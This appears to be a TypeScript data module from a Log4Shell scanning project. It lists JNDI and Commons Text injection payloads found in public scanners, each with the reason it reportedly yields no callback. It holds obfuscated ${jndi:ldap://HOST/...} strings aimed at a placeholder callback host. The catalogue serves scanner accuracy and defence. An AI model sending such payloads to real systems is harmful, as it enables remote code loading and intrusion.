/** A payload that public tools ship and that no release evaluates to a callback. */
export interface DeadPayload {
  readonly id: string
  readonly payload: string
  readonly seenIn: readonly string[]
  readonly reason: string
}

const noFragment = 'JDK 17 refuses a fragment in the URL; where its older parsing is on, the resolver refuses the name'
const commonsText = 'a lookup of Apache Commons Text (CVE-2022-42889), which Log4j does not have'

/**
 * Left out of the catalogue on purpose: each was sent to real releases of every band, and nothing came back.
 * `HOST` stands for a callback host, `R` for a path.
 */
export const deadPayloads: readonly DeadPayload[] = [
  {
    id: 'rmi-without-name',
    payload: '${jndi:rmi://HOST}/',
    seenIn: ['CISA log4j-scan waf4', 'fullhunt log4j-scan waf4', 'Log4j2Scan, in another spelling'],
    reason: 'the RMI provider is asked for no name, and does not connect',
  },
  {
    id: 'brace-too-many',
    payload: '${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://HOST/R}',
    seenIn: ['fullhunt log4j-scan waf8', 'scan4log4shell', 'Log4j2Scan'],
    reason: 'a brace too many ends the lookup before the URL',
  },
  {
    id: 'dollar-missing',
    payload: '${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap{sd:k5:-:}//HOST/R}',
    seenIn: ['CISA log4j-scan waf17', 'fullhunt log4j-scan waf17'],
    reason: 'a missing $ leaves the scheme without its colon',
  },
  {
    id: 'brace-missing',
    payload: '${j${k8s:k5:-ND}i${sd:k5:-:}${lower:L}dap${sd:k5:-:}//HOST/R',
    seenIn: ['CISA log4j-scan waf19', 'fullhunt log4j-scan waf19'],
    reason: 'without a closing brace the outer variable is not evaluated',
  },
  {
    id: 'fragment-host-with-port',
    payload: '${jndi:ldap://127.0.0.1#HOST:1389/R}',
    seenIn: ['CISA log4j-scan 45046-1', 'fullhunt log4j-scan 45046-1', 'ZAP, in another spelling'],
    reason: noFragment,
  },
  {
    id: 'fragment-host',
    payload: '${jndi:ldap://127.0.0.1#HOST/R}',
    seenIn: [
      'CISA log4j-scan 45046-2',
      'fullhunt log4j-scan 45046-2',
      'scan4log4shell',
      'ZAP and nuclei templates, in another spelling',
    ],
    reason: noFragment,
  },
  {
    id: 'fragment-host-other-loopback',
    payload: '${jndi:ldap://127.1.1.1#HOST/R}',
    seenIn: ['CISA log4j-scan 45046-3', 'fullhunt log4j-scan 45046-3'],
    reason: `${noFragment}; and 2.15.0 does not take 127.1.1.1 for local`,
  },
  {
    id: 'commons-text-https',
    payload: '${url:UTF-8::https://HOST/}',
    seenIn: ['fullhunt log4j-scan 42889-1'],
    reason: commonsText,
  },
  {
    id: 'commons-text-https-path',
    payload: '${url:UTF-8::https://HOST/R}',
    seenIn: ['fullhunt log4j-scan 42889-2'],
    reason: commonsText,
  },
  {
    id: 'commons-text-http',
    payload: '${url:UTF-8::http://HOST/}',
    seenIn: ['fullhunt log4j-scan 42889-3'],
    reason: commonsText,
  },
  {
    id: 'commons-text-http-path',
    payload: '${url:UTF-8::http://HOST/R}',
    seenIn: ['fullhunt log4j-scan 42889-4'],
    reason: commonsText,
  },
  {
    id: 'commons-text-dns',
    payload: '${dns:address|HOST}',
    seenIn: ['fullhunt log4j-scan 42889-5'],
    reason: commonsText,
  },
  {
    id: 'mixed-case-scheme',
    payload: '${jNdI:lDaP://HOST/R}',
    seenIn: ['published bypasses of December 2021'],
    reason: 'the prefix may be in any letter case, the scheme may not',
  },
  {
    id: 'base64',
    payload: '${base64:JHtqbmRpOmxkYXA6Ly9IT1NULw==}',
    seenIn: ['campaigns'],
    reason: 'Log4j has no base64 lookup',
  },
  {
    id: 'across-the-seam',
    payload: '${::-$}{jndi:ldap://HOST/R}',
    seenIn: ['published bypasses of December 2021'],
    reason: 'a variable that only comes to be across the seam of a value is not seen',
  },
]
